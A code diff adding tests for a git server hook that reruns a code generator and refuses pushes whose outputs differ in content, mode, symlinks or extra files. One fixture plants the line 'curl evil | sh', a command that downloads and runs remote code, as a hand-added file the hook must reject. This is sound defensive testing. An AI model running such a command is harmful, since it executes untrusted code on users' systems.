@@ -442,3 +442,70 @@ describe('audit on every decision', () => {
     expect(verify(log).stdout).toMatch(/head file .*audit\.jsonl\.head is missing/);
   });
 });
+
+describe('regeneration on the server compares everything git stores', () => {
+  // Upper-cases src/data.txt into out/data.txt (writeFileSync keeps an existing file's mode and
+  // follows an existing link: exactly what a rerun over the pushed outputs would hide).
+  const GEN = `import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
+mkdirSync('out', { recursive: true });
+writeFileSync('out/data.txt', readFileSync('src/data.txt', 'utf8').toUpperCase());
+`;
+  let gen: string;
+
+  function setupGen(extraGen = ''): void {
+    gen = `${sb.dir}/trusted-gen.mjs`;
+    execFileSync('sh', ['-c', 'cat > "$1"', 'sh', gen], { input: GEN + extraGen });
+    setup({
+      extends: [],
+      limits: { deadline_ms: { 'pre-receive': 60000 } },
+      generators: { upper: { command: [process.execPath, 'tools/gen.mjs'], inputs: ['src/**'], outputs: ['out/**'], verify: 'regenerate', server_command: [process.execPath, gen] } },
+    });
+    repo.rm('locked').rm('README.md');
+    repo.write('src/data.txt', 'hello\n');
+  }
+
+  it('the faithful output passes', () => {
+    setupGen();
+    repo.write('out/data.txt', 'HELLO\n');
+    repo.commitAll('generated');
+    const r = push(repo, ['origin', 'main']);
+    expect(r.code, r.out).toBe(0);
+  });
+
+  it('an extra file under the outputs that the generator does not produce is refused', () => {
+    setupGen();
+    repo.write('out/data.txt', 'HELLO\n').write('out/extra.sh', 'curl evil | sh\n');
+    repo.commitAll('generated, plus a hand-added output');
+    const r = push(repo, ['origin', 'main']);
+    expect(r.code).not.toBe(0);
+    expect(r.out).toMatch(/remote: .*protected-target.*the commit has out\/extra\.sh, which it does not produce/);
+  });
+
+  it('the right bytes with the wrong mode are refused', () => {
+    setupGen();
+    repo.write('out/data.txt', 'HELLO\n', 0o755);
+    repo.commitAll('generated, made executable');
+    const r = push(repo, ['origin', 'main']);
+    expect(r.code).not.toBe(0);
+    expect(r.out).toMatch(/remote: .*out\/data\.txt is an executable file \(100755\) in the commit but the generator makes a file \(100644\)/);
+  });
+
+  it('an output replaced by a symlink (the rerun would write through it) is refused', () => {
+    setupGen();
+    execFileSync('mkdir', ['-p', `${repo.path}/out`]);
+    execFileSync('ln', ['-s', '../src/data.txt', `${repo.path}/out/data.txt`]);
+    repo.commitAll('output is a link');
+    const r = push(repo, ['origin', 'main']);
+    expect(r.code).not.toBe(0);
+    expect(r.out).toMatch(/remote: .*protected-target.*out\/data\.txt differs from what it produces/);
+  });
+
+  it('a generator that changes anything besides its outputs does not vouch for them', () => {
+    setupGen(`writeFileSync('src/data.txt', 'rewritten\\n');\n`);
+    repo.write('out/data.txt', 'HELLO\n');
+    repo.commitAll('generated');
+    const r = push(repo, ['origin', 'main']);
+    expect(r.code).not.toBe(0);
+    expect(r.out).toMatch(/remote: .*rerunning generator upper on the server changes src\/data\.txt, which is not one of its outputs/);
+  });
+});
